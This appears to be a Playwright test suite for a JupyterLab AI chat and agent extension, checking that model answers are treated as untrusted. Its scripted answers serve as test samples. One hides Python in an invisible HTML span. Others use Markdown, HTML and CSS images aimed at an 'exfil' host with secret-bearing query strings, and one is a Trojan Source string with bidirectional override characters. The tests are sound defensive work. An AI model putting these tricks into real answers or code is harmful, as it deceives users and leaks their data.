/**
 * Model answers are untrusted: what runs is what the user saw, and showing an answer fetches
 * nothing. Raw HTML shows as text (code hidden in it never reaches a cell), images wait for a
 * click that names their host (a loopback "exfil" server counts what reaches it), the
 * `<redacted>` marker stays visible, and an agent step's invisible characters are named.
 */

import { Locator } from '@playwright/test';
import * as fs from 'fs';
import * as path from 'path';

import {
  ask,
  askAndWait,
  chatAnswers,
  chatNotebook,
  expect,
  fenced,
  Lab,
  model,
  openChat,
  test
} from './fixtures';
import { openAgent, resetAgentSettings } from './agent-helpers';
import { ExfilServer, foreignRequests, picture, settle } from './exfil';

/** The exfil server's ports: their own range, apart from JupyterLab's and the model's. */
const EXFIL_PORTS = [18831, 18832, 18833, 18834, 18835];

const LAB_ORIGIN = new URL(process.env.CHAPYTER_UI_LAB_URL!).origin;

/** A one-cell notebook (`first`) with no chat history, opened. */
async function trustNotebook(lab: Lab, name: string): Promise<string> {
  const file = await chatNotebook(name, [{ id: 'first', source: 'x = 0' }]);
  await lab.openNotebook(file);
  return file;
}

/** Open the chat, ask, and wait until the (scripted) answer is complete. */
async function askChat(lab: Lab, text: string): Promise<Locator> {
  const panel = await openChat(lab);
  await askAndWait(panel, text);
  const answer = chatAnswers(panel);
  await expect(answer).toHaveAttribute('aria-busy', 'false');
  return answer;
}

const HIDDEN_MARKER = 'hidden-ran.txt';

test('code hidden in raw HTML is shown as text and never inserted or run', async ({
  lab
}) => {
  const hidden =
    `import pathlib; pathlib.Path('${HIDDEN_MARKER}').write_text('ran'); ` +
    'HIDDEN_RAN = True';
  // The fenced block holds HTML too: it is code, shown and inserted as written.
  const code = "print('fenced ran')  # <b>not bold</b>";
  const answer =
    'Run this:\n\n' +
    `<pre><code>print('looks harmless')<span style="display:none">\n${hidden}</span></code></pre>\n\n` +
    'or this one:\n\n' +
    fenced(code) +
    '\n\nDone.';
  await model.script(answer);
  const file = await trustNotebook(lab, 'trust-hidden');
  await lab.focusEditor(file, 'first');

  const reply = await askChat(lab, 'Print something');
  // The raw HTML is there as text, hidden part included; it is no code block.
  const raw = reply.locator('.jp-Chapyter-rawHtml');
  await expect(raw).toHaveCount(1);
  await expect(raw).toContainText('<span style="display:none">');
  await expect(raw).toContainText(hidden);
  await expect(reply.locator('span[style]')).toHaveCount(0);
  // One code block, one bar of buttons: the fenced one, shown exactly as sent.
  await expect(reply.locator('pre')).toHaveCount(1);
  expect(await reply.locator('pre').textContent()).toBe(code);
  const bars = reply.getByRole('group', { name: 'Code actions' });
  await expect(bars).toHaveCount(1);
  await lab.screenshot('trust-01-hidden-html', reply);

  await bars.getByRole('button', { name: 'Insert and run' }).click();
  const cells = await lab.waitForCells(
    file,
    cells =>
      cells[1]?.outputs.some(o => o.text.includes('fenced ran')) ?? false,
    'the fenced block was inserted and ran'
  );
  expect(cells).toHaveLength(2);
  expect(cells[1].source).toBe(code);
  // The hidden command never ran: no marker file, no variable.
  const root = process.env.CHAPYTER_UI_ROOT!;
  expect(fs.existsSync(path.join(root, HIDDEN_MARKER))).toBe(false);
  await lab.page.evaluate(async file => {
    const app = (window as any).jupyterapp;
    const panel = Array.from(app.shell.widgets('main')).find(
      (w: any) => w.context?.path === file
    ) as any;
    const future = panel.sessionContext.session.kernel.requestExecute({
      code: "print('HIDDEN_RAN' in globals())",
      silent: false,
      store_history: false
    });
    const out: string[] = [];
    future.onIOPub = (msg: any) => {
      if (msg.header.msg_type === 'stream') {
        out.push(msg.content.text);
      }
    };
    await future.done;
    (window as any).hiddenProbe = out.join('');
  }, file);
  expect(
    await lab.page.evaluate(() => (window as any).hiddenProbe as string)
  ).toBe('False\n');
});

test('showing an answer fetches nothing; an image loads on a click naming its host', async ({
  lab
}) => {
  const exfil = new ExfilServer(EXFIL_PORTS);
  await exfil.start();
  try {
    const seen = foreignRequests(lab.page);
    // Percent-encoded, not base64: the server redacts long base64 runs as likely secrets.
    const dataImage =
      'data:image/svg+xml,' +
      encodeURIComponent(picture('data: image', '#1b6e3a'));
    const answer = [
      'Here is the chart:',
      '',
      `![chart](http://${exfil.host}/md.png?q=secret-from-the-notebook)`,
      '',
      `<img src="http://${exfil.host}/html.png?q=secret">`,
      '',
      `A styled one <span style="background:url(http://${exfil.host}/css.png)">x</span>`,
      '',
      '![far](https://exfil.invalid/far.png?q=secret) and ![rel](plot.png)',
      '',
      `And an inline one: ![dot](${dataImage})`,
      '',
      'See [the docs](https://docs.example/pandas) for more.'
    ].join('\n');
    await model.script(answer);
    await trustNotebook(lab, 'trust-images');

    const reply = await askChat(lab, 'Plot it');
    await settle(lab.page);
    // The figure of this test: remote fetches while the answer rendered.
    const fetchesOnRender = exfil.requests.length + seen.length;
    console.log(
      `remote fetches on render: ${fetchesOnRender} (exfil server ${exfil.requests.length}, other hosts ${seen.length})`
    );
    test.info().annotations.push({
      type: 'remote fetches on render',
      description: String(fetchesOnRender)
    });
    expect(exfil.requests).toEqual([]);
    expect(seen).toEqual([]);

    // Raw HTML is text; each Markdown image is a placeholder naming its host.
    await expect(reply).toContainText(
      `<img src="http://${exfil.host}/html.png?q=secret">`
    );
    const placeholders = reply.locator('.jp-Chapyter-imagePlaceholder');
    await expect(placeholders).toHaveCount(3);
    await expect(placeholders.nth(0)).toContainText(
      `Image "chart" from ${exfil.host}`
    );
    await expect(placeholders.nth(1)).toContainText('from exfil.invalid');
    await expect(placeholders.nth(2)).toContainText(
      `from ${new URL(LAB_ORIGIN).host}`
    );
    // The data: image shows at once.
    const inline = reply.locator('img[src^="data:image/svg+xml"]');
    await expect(inline).toBeVisible();
    await expect
      .poll(() => inline.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(0);
    // Links stay links, opened without the page as referrer or opener.
    const link = reply.getByRole('link', { name: 'the docs' });
    await expect(link).toHaveAttribute('href', 'https://docs.example/pandas');
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    await expect(reply.locator('img:not([src^="data:"])')).toHaveCount(0);
    await lab.screenshot('trust-02-images-not-loaded', reply);

    // Load the first one from the keyboard: one fetch, to that host only.
    const load = reply.getByRole('button', {
      name: `Load image from ${exfil.host}`
    });
    await load.focus();
    await expect(load).toBeFocused();
    await lab.page.keyboard.press('Enter');
    const loaded = reply.locator(`img[src^="http://${exfil.host}/md.png"]`);
    await expect(loaded).toBeVisible();
    await expect
      .poll(() => loaded.evaluate((img: HTMLImageElement) => img.naturalWidth))
      .toBeGreaterThan(0);
    await settle(lab.page);
    expect(exfil.requests).toEqual(['/md.png?q=secret-from-the-notebook']);
    expect(seen).toEqual([
      `http://${exfil.host}/md.png?q=secret-from-the-notebook`
    ]);
    await expect(placeholders).toHaveCount(2);
    await lab.screenshot('trust-03-image-loaded-on-click', reply);
  } finally {
    await exfil.stop();
  }
});

test('the <redacted> marker stays visible in prose and in code', async ({
  lab
}) => {
  const code = "api_key = '<redacted>'\nclient = Client(api_key)";
  await model.script(
    'Your key is <redacted>, so I left it out.\n\n<redacted>\n\n' +
      fenced(code) +
      '\n\nUse `<redacted>` nowhere else.'
  );
  await trustNotebook(lab, 'trust-redacted');
  const reply = await askChat(lab, 'Connect the client');
  await expect(reply).toContainText(
    'Your key is <redacted>, so I left it out.'
  );
  await expect(reply).toContainText('Use <redacted> nowhere else.');
  await expect(reply.locator('.jp-Chapyter-rawHtml')).toHaveText([
    '<redacted>',
    '<redacted>'
  ]);
  expect(await reply.locator('pre').textContent()).toBe(code);
  await lab.screenshot('trust-04-redacted', reply);
});

test('an answer keeps its Markdown; a block nested in a list or quote has its own buttons', async ({
  lab
}) => {
  const first = 'rain = rain.dropna()\nprint(len(rain))';
  const second = "print('quoted block')";
  await model.script(
    [
      '## Two steps',
      '',
      '1. Drop the empty rows:',
      '',
      '   ```python',
      '   ' + first.replace('\n', '\n   '),
      '   ```',
      '2. Check the mean $\\bar{x} = \\frac{1}{n}\\sum_i x_i$.',
      '',
      '> Or, quoted:',
      '>',
      '> ```python',
      '> ' + second,
      '> ```',
      '',
      '| city | rain |',
      '|:-----|-----:|',
      '| Oslo | 763 |',
      '',
      'Costs $5 and $6, *nothing* else.'
    ].join('\n')
  );
  const file = await trustNotebook(lab, 'trust-markdown');
  await lab.focusEditor(file, 'first');
  const seen = foreignRequests(lab.page);
  const reply = await askChat(lab, 'Clean the data');
  await expect(reply.locator('h2')).toHaveText('Two steps');
  await expect(reply.locator('ol > li')).toHaveCount(2);
  await expect(reply.locator('table td').last()).toHaveText('763');
  await expect(reply.locator('em')).toHaveText('nothing');
  await expect(reply).toContainText('Costs $5 and $6');
  // The page's typesetter (MathJax) draws the math.
  await expect(reply.locator('.jp-Chapyter-math mjx-container')).toHaveCount(1);
  const blocks = reply.locator('.jp-Chapyter-codeBlock');
  await expect(blocks).toHaveCount(2);
  expect(await blocks.nth(0).locator('pre').textContent()).toBe(first);
  expect(await blocks.nth(1).locator('pre').textContent()).toBe(second);
  // Highlighting and math fetch nothing from elsewhere either (MathJax's fonts are the lab's).
  await settle(lab.page);
  expect(seen).toEqual([]);
  await lab.screenshot('trust-06-markdown', reply);
  await blocks.nth(1).getByRole('button', { name: 'Insert below' }).click();
  const cells = await lab.waitForCells(
    file,
    cells => cells.length === 2,
    'the quoted block was inserted'
  );
  expect(cells[1].source).toBe(second);
});

test('an agent step shows its invisible characters, and runs exactly that code', async ({
  lab
}) => {
  // "Trojan Source": the override makes the comment read as if it were the string's end.
  const code =
    'access = "user\u202e \u2066# admin\u2069 \u2066"\nprint(len(access))';
  await model.script(
    {
      tool_calls: [{ name: 'run_code', arguments: { code, purpose: 'Check' } }]
    },
    'Done.'
  );
  const file = await trustNotebook(lab, 'trust-agent');
  await lab.focusEditor(file, 'first');
  try {
    const panel = await openAgent(lab, 'Ask before every run');
    await ask(panel, 'Check access');

    const answer = chatAnswers(panel);
    const proposed = answer.getByLabel('Proposed code');
    await expect(proposed).toBeVisible({ timeout: 60_000 });
    await expect(proposed.locator('.jp-Chapyter-invisibleChar')).toHaveText([
      'U+202E',
      'U+2066',
      'U+2069',
      'U+2066'
    ]);
    await expect(answer.getByRole('note')).toContainText(
      'invisible or direction-changing characters'
    );
    await lab.screenshot('trust-05-agent-invisible', answer);
    await answer
      .getByRole('group', { name: 'Approve the step' })
      .getByRole('button', { name: 'Run' })
      .click();
    await expect(answer).toContainText('Done.', { timeout: 60_000 });
    const cells = await lab.cells(file);
    const agent = cells.filter(c => c.chapyter?.source === 'agent');
    expect(agent.map(c => c.source)).toEqual([code]);
  } finally {
    await resetAgentSettings();
  }
});
